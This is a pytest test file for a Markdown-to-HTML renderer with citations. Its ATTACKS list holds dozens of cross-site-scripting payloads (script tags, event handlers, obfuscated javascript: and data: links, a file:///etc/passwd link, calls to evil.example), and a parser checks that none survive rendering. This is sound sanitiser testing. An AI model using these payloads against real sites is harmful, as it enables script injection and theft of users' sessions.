"""The bodies of notes: from Markdown, with citations, to HTML that nothing live gets through."""

import re
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree
from lxml import html as lxml_html

from enregard.core.markdown import markup
from enregard.core.markdown.renderer import RenderOptions, render
from enregard.core.notes import prose

KNOWN = ("v3-report", "semianalysis", "doi:10.1/a", "snake_case_id")


def cite(one, lang, narrative=False):
    """A citation as the tests set it: the id, the place and the language."""
    if one.id not in KNOWN:
        return None
    said = f"{one.before}{'-' * one.bare}{one.id}{'!' * narrative}"
    return f"<i>{said}|{escape(one.place)}|{lang}</i>"


def html(text, lang="en", resolve=str, cite=cite):
    """The HTML of a body."""
    return prose.html(prose.read(text).blocks, lang, cite, resolve)


def told(text):
    """What is told of a body: the line, the code and the message of each finding."""
    return [(found.line, found.code, found.message) for found in prose.problems(prose.read(text), "notes/n.md")]


FRAME = '<div class="scroll" tabindex="0" role="group"><table><thead><tr>'


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("A *b* **c** ~~d~~ `e`", "<p>A <em>b</em> <strong>c</strong> <del>d</del> <code>e</code></p>"),
        ("a\nb", "<p>a b</p>"),
        ("a  \nb\\\nc", "<p>a<br> b<br> c</p>"),
        ("a\n\nb", "<p>a</p>\n<p>b</p>"),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("- a\n  - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
        ("- a\n    - b\n- c", "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>"),
        ("1. a\n   - b\n2. c", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
        (
            "- a\n\n  ```\n  - b\n  ```\n- c",
            '<ul><li><p>a</p><pre tabindex="0"><code>- b\n</code></pre></li><li><p>c</p></li></ul>',
        ),
        ("- a\n\n  b\n- c", "<ul><li><p>a</p><p>b</p></li><li><p>c</p></li></ul>"),
        ("a\n- b\n- c", "<p>a</p>\n<ul><li>b</li><li>c</li></ul>"),
        ("a\n1. b", "<p>a</p>\n<ol><li>b</li></ol>"),
        ("in\n1918. b", "<p>in 1918. b</p>"),
        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
        ("> a\n> b\n>\n> - c", "<blockquote><p>a b</p><ul><li>c</li></ul></blockquote>"),
        ("## a", "<h4>a</h4>"),
        ("###### a", "<h6>a</h6>"),
        ("#tag", "<p>#tag</p>"),
        ("## a {#b}\n\n{#c}", "<h4>a {#b}</h4>\n<p>{#c}</p>"),
        ("```\n<b>\n```", '<pre tabindex="0"><code>&lt;b&gt;\n</code></pre>'),
        ('```py"x\na\n```', '<pre tabindex="0"><code class="language-py&quot;x">a\n</code></pre>'),
        ("    a", '<pre tabindex="0"><code>a</code></pre>'),
        ("* * *", "<hr>"),
        (
            "| a |\n|--:|\n| *b* \\| [@v3-report] |",
            f'{FRAME}<th scope="col" class="right">a</th>\n</tr></thead><tbody><tr><td class="right"><em>b</em> | '
            '<span class="cite">[<i>v3-report||en</i>]</span></td>\n</tr></tbody></table></div>',
        ),
        ("H<sub>2</sub>O, <kbd>x</kbd><br>y", "<p>H<sub>2</sub>O, <kbd>x</kbd><br>y</p>"),
        ('a <b class="x">b</b> <script>c</script> d', "<p>a b c d</p>"),
        ("<div>\n*a* <b>b</b></div>", "<p>*a* b</p>"),
        ("<script>\na\n</script>\n\nb", "<p>b</p>"),
        (
            "see https://a.org/b_c_d, (http://e.org/) “https://f.org” [at www.g.org].",
            '<p>see <a href="https://a.org/b_c_d">https://a.org/b_c_d</a>, (<a href="http://e.org/">http://e.org/</a>) '
            '“<a href="https://f.org">https://f.org</a>” [at <a href="http://www.g.org">www.g.org</a>].</p>',
        ),
        ("[a](https://b.org 'c')", '<p><a href="https://b.org" title="c">a</a></p>'),
        ("[a](../other/fr.md?b=1#x)", '<p><a href="../other/fr.md?b=1#x">a</a></p>'),
        ("<https://a.org>", '<p><a href="https://a.org">https://a.org</a></p>'),
        ("<a@b.org>", '<p><a href="mailto:a@b.org">a@b.org</a></p>'),
        ("a ![b *c*](d.png 'e')", '<p>a <img src="d.png" alt="b c" title="e" loading="lazy"></p>'),
        ("![a](b.png)", '<figure><img src="b.png" alt="a" loading="lazy"></figure>'),
        ("![a](https://b.org/c.png)", '<p><a href="https://b.org/c.png">a</a></p>'),
        ("a[^1]\n\n[^1]: b", "<p>a[^1]</p>\n<p>[^1]: b</p>"),
        ("a < b & c > d &eacute;", "<p>a &lt; b &amp; c &gt; d é</p>"),
        (r"\*a\* \[@v3-report]", "<p>*a* [@v3-report]</p>"),
        ("a <!-- b --> c", "<p>a  c</p>"),
        ("<!-- a\n\nb -->\n\nc", "<p>c</p>"),
        ("a <!-- b", "<p>a &lt;!-- b</p>"),
        ("`<!-- a -->`", "<p><code>&lt;!-- a --&gt;</code></p>"),
        ("", ""),
    ],
)
def test_a_body_is_the_markdown_of_articles(text, made):
    """Structure, code, tables, HTML and addresses are what GitHub shows; headings stand below the note's title."""
    assert html(text) == made


@pytest.mark.parametrize(
    ("lang", "text", "made"),
    [
        ("fr", "C'est « dit » : 5 % !", "C’est «\u202fdit\u202f»\u00a0: 5\u00a0%\u202f!"),
        ("fr", "« dit [@v3-report] »", '«\u202fdit <span class="cite">[<i>v3-report||fr</i>]</span>\u202f»'),
        ("en", 'It\'s "*said*" so', "It’s “<em>said</em>” so"),
        ("en", '`it\'s "x"` "said"', '<code>it\'s "x"</code> “said”'),
        ("en", "<kbd>'</kbd> it's", "<kbd>'</kbd> it’s"),
        ("de", 'it\'s "x"', "it’s „x“"),
        ("xx", 'it\'s "x"', 'it\'s "x"'),
    ],
)
def test_words_are_set_as_their_language_sets_them_and_code_is_not(lang, text, made):
    """Nor are the names of keys, and neither counts for the words around it."""
    assert html(text, lang) == f"<p>{made}</p>"


def test_what_is_nested_beyond_reason_breaks_nothing():
    """Lists three hundred deep are nobody's text."""
    deep = "\n".join("  " * n + "- a" for n in range(300))
    assert html(deep).count("<li>") == html(deep).count("</li>") == 300


def test_frames_have_the_names_that_they_are_given():
    """What scrolls by itself says to who listens what it is."""
    made = prose.html(prose.read("| a |\n|---|\n\n    b").blocks, "fr", cite, frames=prose.Frames("Tableau", "Code"))

    assert '<div class="scroll" tabindex="0" role="group" aria-label="Tableau"><table>' in made
    assert '<pre tabindex="0" role="group" aria-label="Code"><code>' in made


# Citations


def test_citations_are_set_by_the_caller_with_their_place_and_language():
    """Several in one pair of brackets are parted by semicolons."""
    made = html("A [@v3-report, p. 5; @semianalysis] b [@v3-report].", "fr")
    first = "<i>v3-report|p. 5|fr</i>\u202f; <i>semianalysis||fr</i>"

    assert made == f'<p>A <span class="cite">[{first}]</span> b <span class="cite">[<i>v3-report||fr</i>]</span>.</p>'


def test_the_works_that_a_body_cites_are_known_without_its_html():
    """Each once, in order, and only those that are there."""
    body = prose.read("A [@v3-report; @lost] [@semianalysis; @v3-report]")

    assert prose.cited(body.blocks, KNOWN) == ("v3-report", "semianalysis")


@pytest.mark.parametrize(
    ("text", "id", "place"),
    [
        ("[@v3-report]", "v3-report", ""),
        ("[@v3-report p. 5]", "v3-report", "p. 5"),
        ("[@v3-report, tableaux 1\net 2]", "v3-report", "tableaux 1 et 2"),
        ("> [@v3-report,\n> p. 5]", "v3-report", "p. 5"),
        ("[ @v3-report ]", None, None),
        ("[@doi:10.1/a, p. 1]", "doi:10.1/a", "p. 1"),
        ("[@snake_case_id]", "snake_case_id", ""),
        ("[@v3-report, a <b> & c]", "v3-report", "a <b> & c"),
        ("[@v3-report, *Le Monde*, `p` <https://a.org>]", "v3-report", "Le Monde, p https://a.org"),
        ("[@v3-report, R&amp;D]", "v3-report", "R&D"),
        ("*[@v3-report]*", "v3-report", ""),
        ("- [@v3-report]", "v3-report", ""),
        ("- a\n  - [@v3-report]", "v3-report", ""),
        ("## [@v3-report]", "v3-report", ""),
        ("| a |\n|---|\n| [@v3-report] |", "v3-report", ""),
        ("<div>a [@v3-report]</div>", "v3-report", ""),
        ("a[^1]\n\n[^1]: [@v3-report]", "v3-report", ""),
        (r"a\\[@v3-report]", "v3-report", ""),
        ("[a [@v3-report] b]", "v3-report", ""),
        ("[@v3-report](not an address)", "v3-report", ""),
        ("`[@v3-report]`", None, None),
        ("```\n[@v3-report]\n```", None, None),
        ("    [@v3-report]", None, None),
        (r"\[@v3-report]", None, None),
        ("[@v3-report](https://a.org)", None, None),
        ("[a [@v3-report] b](https://a.org)", None, None),
        ("![a [@v3-report] b](c.png)", None, None),
        ("<!-- [@v3-report] -->", None, None),
        ("me@v3-report.org", None, None),
        ("[a]: b\n\n[@v3-report][a]", None, None),
        ("[@v3-report\n\n]", None, None),
    ],
)
def test_a_citation_is_one_wherever_text_is_and_never_in_code(text, id, place):
    """Nor in the words of a link; markup within it counts for its words."""
    asked = []
    html(text, "xx", cite=lambda one, lang, narrative=False: asked.append((one.id, one.place, lang)) or "x")

    assert asked == ([(id, place, "xx")] if id else [])


@pytest.mark.parametrize(
    ("text", "found"), [("@v3-report [p. 1] ", 20_000), ("[ @v3-report ", 0), ("a@b [c] ", 0), ("[b @", 0)]
)
def test_a_body_of_any_number_of_citations_is_read_at_once(text, found):
    """What stands before a bracket or a name is looked at once, and not again for each that follows."""
    blocks = prose.read(text * 20_000).blocks

    assert sum(len(block.inline.citations) for block in blocks) >= found


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[see @v3-report, p. 5]", "[<i>seev3-report|p. 5|en</i>]"),
        ("[voir aussi @v3-report; @semianalysis]", "[<i>voir aussiv3-report||en</i>; <i>semianalysis||en</i>]"),
        ("[-@v3-report, § 3]", "[<i>-v3-report|§ 3|en</i>]"),
        ("[see -@v3-report]", "[<i>see-v3-report||en</i>]"),
        ("[@{v3-report}, {p. 5}]", "[<i>v3-report|p. 5|en</i>]"),
        ("as @v3-report says", "as <i>v3-report!||en</i> says"),
        ("@v3-report: yes.", "<i>v3-report!||en</i>: yes."),
        ("(@semianalysis).", "(<i>semianalysis!||en</i>)."),
        ("@v3-report [p. 5] says", "<i>v3-report!|p. 5|en</i> says"),
        ("@snake_case_id [chap. 4], *so*", "<i>snake_case_id!|chap. 4|en</i>, <em>so</em>"),
        ("@v3-report [*p.* 5]", "<i>v3-report!|p. 5|en</i>"),
        ("*@v3-report* and **b**", "<em><i>v3-report!||en</i></em> and <strong>b</strong>"),
        (r"\@v3-report and a\@v3-report", "@v3-report and a@v3-report"),
        ("@someone wrote", "@someone wrote"),
        ("a@v3-report.org", "a@v3-report.org"),
        ("`@v3-report` [@v3-report](https://a.org)", '<code>@v3-report</code> <a href="https://a.org">@v3-report</a>'),
        ("@v3-report [link](https://a.org)", '<i>v3-report!||en</i> <a href="https://a.org">link</a>'),
    ],
)
def test_citations_are_written_as_for_pandoc(text, shown):
    """Words before a work, a year alone, a place in braces; in a sentence without brackets, unless nobody knows it."""
    made = html(text)
    assert shown in re.sub(r"</?span[^>]*>", "", made)
    assert uncited(text) == []


def test_two_citations_may_touch():
    """As two notes of a book do."""
    assert html("[@v3-report][@semianalysis]").count('<span class="cite">') == 2


def uncited(text):
    """The line and message of each citation that leads nowhere."""
    return [(found.line, found.message) for found in prose.uncited(prose.read(text, 20).blocks, KNOWN, "n.md")]


def test_a_reference_that_nobody_knows_is_told_with_its_line_and_shown_as_it_was_written():
    """The line is the file's, and the words are text."""
    text = "`[@lost]`\n\n```\n[@lost]\n```\n\nA [@v3-report; @lost,\np. 5] b\n\n- a\n- b\n  [@lost, <i>]"

    assert uncited(text) == [
        (26, "there is no reference “lost” in references.yml, .json or .bib"),
        (31, "there is no reference “lost” in references.yml, .json or .bib"),
    ]
    assert "[<i>v3-report||en</i>; @lost, p. 5]" in html(text)
    assert "[@lost, &lt;i&gt;]" in html(text)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("a [@, p. 5]", "[@, p. 5] is not read as a citation"),
        ("a [@a; p. 5]", "[@a; p. 5] is not read as a citation"),
        ("a [@v3-report @semianalysis]", "[@v3-report @semianalysis] is not read as a citation"),
    ],
)
def test_what_was_meant_as_a_citation_is_told(text, message):
    """And shown as it was written."""
    assert uncited(text) == [(20, message)]
    assert html(text) == f"<p>{text}</p>"


@pytest.mark.parametrize("text", [r"\[see @a]", "`[see @a]`", "[write to @a](b.md)", "[me@a.org]", "[a] @b [c]"])
def test_what_was_not_meant_as_a_citation_is_not_told(text):
    """An address of mail, a link, code."""
    assert uncited(text) == []


def test_a_colon_may_follow_a_citation():
    """As it does in English: “IBM says [@x]: not R1’s.”"""
    assert "[@v3-report]" not in html("IBM says [@v3-report]: no.")


# Addresses


def test_addresses_are_resolved_for_the_page_and_citations_are_not():
    """What an address becomes is escaped; its title is kept."""
    text = '[a](x.md?a=1&b=2 "t") ![b](c.png) [d](#e) [@v3-report]'
    made = html(text, resolve=lambda href: f'../{href}"', cite=lambda *_, **__: '<a href="#ref">r</a>')

    assert made == (
        '<p><a href="../x.md?a=1&amp;b=2&quot;" title="t">a</a> '
        '<img src="../c.png&quot;" alt="b" loading="lazy"> '
        '<a href="../#e&quot;">d</a> <span class="cite">[<a href="#ref">r</a>]</span></p>'
    )


def test_an_address_that_may_not_be_followed_leaves_its_words():
    """A link its words, a picture its alternative text."""
    assert html("[a](x.md) ![b & c](d.png)", resolve=lambda _: None) == "<p><a>a</a> b &amp; c</p>"


# What is live


ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' onclick=alert(1)>x</a>",
    "<sub onmouseover=alert(1)>x</sub>",
    "<sub style='position:fixed'>x</sub>",
    "<kbd/onclick=alert(1)>x",
    "<abbr title=x onclick=alert(1)>x</abbr>",
    "<br onload=alert(1)/>",
    "<form action=//evil.example><input name=a></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<object data=x></object><embed src=x>",
    "<details ontoggle=alert(1) open>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<<script>alert(1)//<</script>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x onerror\n=alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76ascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](\\\\\\\\evil.example)",
    "[x](/\t/evil.example)",
    "[x](</\t/evil.example>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](x.png "a\\" onerror=\\"alert(1)")',
    '![x" onerror="alert(1)](x.png)',
    '[x](https://a.org/"onclick="alert(1))',
    '[x](https://a.org "a\\" onclick=\\"alert(1)")',
    "[x](<https://a.org/' onclick='alert(1)>)",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '~~~ "onclick=alert(1)\nx\n~~~',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "[@v3-report, <img src=x onerror=alert(1)>]",
    "[x](a[@v3-report]b)",
    "![a [@v3-report, p. 5] b](x.png)",
    '[x](a.md "b [@v3-report] c")',
    "[x][1]\n\n[1]: a[@v3-report]",
    "<https://a.org/[@v3-report]>",
    "https://a.org/[@v3-report]",
    "[@lost<img src=x onerror=alert(1)>]",
    "*<img src=x onerror=alert(1)>*",
    "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "a[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: b",
    '<sub><style><!--</sub><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
]

FLOW = {"p", "ul", "ol", "li", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "pre", "hr", "div", "figure"}
PHRASES = {"a", "img", "em", "strong", "del", "code", "sub", "sup", "br", "kbd", "abbr", "span", "i"}
ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title", "loading"},
    "ol": {"start"},
    "th": {"scope", "class"},
    "td": {"class"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "pre": {"tabindex", "role", "aria-label"},
    "code": {"class"},
    "span": {"class"},
}


class Live(HTMLParser):
    """Gathers what in a piece of HTML could act, lead elsewhere than allowed, or ask a third party."""

    def __init__(self, made):
        """Judge a piece of HTML."""
        super().__init__()
        self.found = []
        self.feed(made)
        self.close()

    def handle_starttag(self, tag, attrs):
        """Judge a tag."""
        if tag not in FLOW | PHRASES and not re.fullmatch("h[3-6]", tag):
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()):
                self.found.append((tag, name))
            if name in {"href", "src"} and not re.match(
                r"https?:|mailto:|(?!\s*[/\\]\s*[/\\])(?![^/?#]*:)", value or ""
            ):
                self.found.append((tag, name, value))
            if name == "src" and re.match(r"\s*([\w+.-]+:|[/\\]{2})", value or ""):
                self.found.append((tag, name, value))

    def handle_comment(self, data):
        """A comment shows nothing, and may hide what comes."""
        self.found.append(("comment", data))

    def handle_decl(self, decl):
        """No declaration belongs in a body."""
        self.found.append(("declaration", decl))

    handle_pi = handle_decl
    unknown_decl = handle_decl


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "a {} b", "- {}", "**{}**", "<sub>{}"])
def test_nothing_live_gets_through(attack, around):
    """Nothing live gets through."""
    assert Live(html(around.format(attack))).found == []


def test_the_judge_of_attacks_knows_one_when_it_sees_it():
    """Without this, the test above could pass by seeing nothing."""
    for live in (
        "<script>x</script>",
        "<b onclick=x>",
        '<a href="javascript:x">',
        '<a href="//x">',
        '<img src="https://x/y">',
        "<!-- x -->",
        '<td style="color: red">',
    ):
        assert Live(live).found, live


FRAGMENTS = st.sampled_from(
    [
        *"<>\"'`*_[]()!#&;=/\\-\n \t~>",
        *("a", "x:", "//", "javascript:", "http://a.org", "www.a.org", "<img ", "onerror=", "src=", "<!--", "-->"),
        *(
            "<sub>",
            "</sub>",
            "<kbd>",
            "</kbd>",
            "<br>",
            "<svg>",
            "<div>",
            "[@v3-report",
            "[see @a",
            "]",
            "](",
            "![",
            "\n\n",
        ),
        *(
            "```\n",
            "| a |\n|---|\n",
            "|",
            "---",
            "&#106;",
            "    ",
            "\n- ",
            "\n1. ",
            "\n> ",
            "[^1]",
            "\n[^1]: ",
            "\n[a]: b\n",
        ),
    ]
)
TEXTS = st.lists(FRAGMENTS, max_size=25).map("".join)


@given(TEXTS)
def test_nothing_live_gets_through_whatever_is_written(text):
    """And whatever is told of it, nothing fails."""
    body = prose.read(text)
    assert Live(html(text)).found == []
    for found in (*prose.problems(body, "n.md"), *prose.uncited(body.blocks, (), "n.md")):
        assert 1 <= found.line <= text.count("\n") + 1


@given(TEXTS)
def test_html_is_what_a_browser_makes_of_it(text):
    """Elements are closed where they stand, and hold what they may hold: a parser that mends mends nothing."""
    made = f"<div>{html(text)}</div>"
    strict = etree.fromstring(re.sub("<(br|hr|img)([^>]*)>", r"<\1\2/>", made))

    assert etree.tostring(lxml_html.fromstring(made)) == etree.tostring(strict)


@given(TEXTS)
def test_what_is_read_of_a_body_is_what_is_read_of_an_article(text):
    """Citations are part of the visible text as written, so that offsets mean the same in both."""
    plain = [block.text for block in markup.read(text).blocks]

    assert [block.text for block in prose.read(text).blocks] == plain or "[" in text


@given(TEXTS)
def test_the_visible_text_of_an_articles_block_is_the_text_of_its_html(text):
    """Line feeds between items, and the words of pictures, stand for markup alone."""
    for block in markup.read(text).blocks:
        made = render(block, RenderOptions("xx", str, id="x"))
        shown = "".join(t.value for t in block.inline.tokens if t.op in {"text", "verbatim"})
        found = lxml_html.fromstring(f"<div>{made}</div>").text_content()
        assert found.replace("\n", "") == shown.replace("\n", "")


# What is told


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("a\n\n<b>c</b>", [(3, "html-removed", "HTML was left out, its text kept: <b> (line 3)")]),
        (
            "<i>a</i>\n\n- <u>b</u>",
            [(1, "html-removed", "HTML was left out, its text kept: <i>, <u> (lines 1, 3)")],
        ),
        ("<sub>a</sub><br/><BR>", []),
        ('<sub class="x">a</sub>', [(1, "html-removed", "HTML was left out, its text kept: <sub> (line 1)")]),
        ("`<b>`\n\n```\n<i>\n```\n\n    <u>\n\n<!-- <p> -->", []),
        ("a < b > c <https://a.org> <me@a.org>", []),
        ("\\<b>", []),
        ("a\n[b](javascript:x)", [(2, "link-missing", "the link may not be live: javascript:x")]),
        ("![b](//a.org/x.png)", [(1, "link-missing", "the link may not be live: //a.org/x.png")]),
        ("a\n\n[b][c]\n\n[c]: data:x", [(3, "link-missing", "the link may not be live: data:x")]),
        ("[b](http://a.org) [c](mailto:d@e.org) [f](g.md#h) [i](j%3A.md)", []),
        ("`[b](javascript:x)`", []),
        ("![b](images/d.png) [b](https://c.org) `![b](https://c.org/d.png)`", []),
        (
            "a\nb[^1] [^2]\n\n[^1]: c",
            [
                (2, "footnote", "notes have no footnotes: readers see [^1]"),
                (2, "footnote", "notes have no footnotes: readers see [^2]"),
            ],
        ),
        (r"`[^1]` \[^2]", []),
    ],
)
def test_what_is_not_shown_as_it_was_written_is_told(text, found):
    """With the line of the file, once a body for HTML."""
    assert told(text) == found
